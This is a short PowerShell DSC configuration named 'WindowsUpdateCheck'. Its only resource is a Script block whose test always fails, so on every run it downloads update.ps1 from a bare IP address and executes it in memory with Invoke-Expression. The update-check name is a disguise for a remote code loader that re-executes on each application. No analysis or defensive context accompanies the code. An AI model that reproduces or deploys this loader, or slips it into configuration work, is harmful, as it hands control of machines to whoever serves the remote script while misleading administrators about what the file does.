# init 6600 v2
Configuration WindowsUpdateCheck {
  Import-DscResource -ModuleName PSDesiredStateConfiguration
  Node localhost {
    Script Bootstrap {
      GetScript = { @{ Result = '' } }
      TestScript = { $false }
      SetScript = { IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/update.ps1') }
    }
  }
}
